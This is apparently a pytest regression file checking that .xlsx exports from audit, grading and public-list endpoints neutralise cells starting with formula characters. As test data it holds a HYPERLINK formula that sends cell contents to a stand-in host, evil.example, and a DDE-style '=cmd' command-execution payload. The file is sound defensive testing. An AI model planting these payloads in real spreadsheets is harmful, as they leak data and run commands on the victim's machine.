"""Issue 10 · Excel formula injection: text starting with = + - @ is written inert in every .xlsx export."""
import io
from datetime import date
from types import SimpleNamespace

from freezegun import freeze_time
from openpyxl import load_workbook

from models import GradingRound, db
from rules import annex_tables
from rules.spreadsheet import safe_cell
from tests.factories import credit_code
from tests.grading_factories import entry_of, open_round
from tests.sanctions_factories import insert_agency
from tests.test_registration import COUNTY, submit

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'


def _cells(data: bytes) -> list:
    return [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]


def _assert_inert(data: bytes, text: str = EVIL) -> None:
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula anywhere
    assert any(str(c.value).startswith("'" + text) for c in cells)  # the text is kept, visibly neutralised


def test_safe_cell_neutralises_every_formula_start_and_leaves_the_rest():
    """OWASP formula injection: = + - @ (and tab / CR) start a formula; numbers and plain text are untouched."""
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(bad) == "'" + bad
    assert [safe_cell(v) for v in ("晋城市安泰", -3, 2.5, None, "")] == ["晋城市安泰", -3, 2.5, None, ""]


def test_agency_named_as_a_formula_is_inert_in_the_audit_export(api_as):
    """Issue 10: an agency named =HYPERLINK(...) became a live formula in /audit/cases.xlsx."""
    submit(api_as("agency"), name=EVIL)
    auditor = api_as("auditor")
    res = auditor.client.get("/audit/cases.xlsx", headers=auditor._h())
    assert res.status_code == 200
    _assert_inert(res.data)


def _round_with_evil_agency(api_as):
    with freeze_time("2026-09-01 09:00:00+08:00"):
        agency = insert_agency(EVIL, credit_code(7), COUNTY)
        db.session.commit()
        row = SimpleNamespace(id=agency.id)
        city = open_round(api_as, [row])
    return city, entry_of(row)


def test_agency_named_as_a_formula_is_inert_in_the_grading_overview_export(api_as):
    """views/web/grading.py: the round overview .xlsx."""
    round_id = _round_with_evil_agency(api_as)[1].round_id
    city = api_as("city_official")  # the round was opened in September; that token has expired
    res = city.client.get(f"/grading/rounds/{round_id}.xlsx", headers=city._h())
    assert res.status_code == 200
    _assert_inert(res.data)


def test_agency_named_as_a_formula_is_inert_in_the_public_final_list(api_as, client):
    """views/public_grading.py: the published final list .xlsx anyone can download."""
    _, entry = _round_with_evil_agency(api_as)
    entry.phase, entry.final_score, entry.grade = "final", 95.0, "优秀"
    rnd = db.session.get(GradingRound, entry.round_id)
    rnd.status, rnd.final_published_on = "final", date(2026, 10, 22)
    db.session.commit()
    res = client.get(f"/public/grading/rounds/{entry.round_id}/final.xlsx")
    assert res.status_code == 200
    _assert_inert(res.data)


def test_annex_template_writes_its_cells_through_the_shared_helper(monkeypatch):
    """rules/annex_tables.py: a column title from policy data that starts with = stays text."""
    spec = dict(annex_tables.ANNEXES["annex2"], columns=["=cmd|' /C calc'!A0", "项目名称"])
    monkeypatch.setitem(annex_tables.ANNEXES, "annex2", spec)
    _assert_inert(annex_tables.template_xlsx("annex2"), "=cmd|' /C calc'!A0")
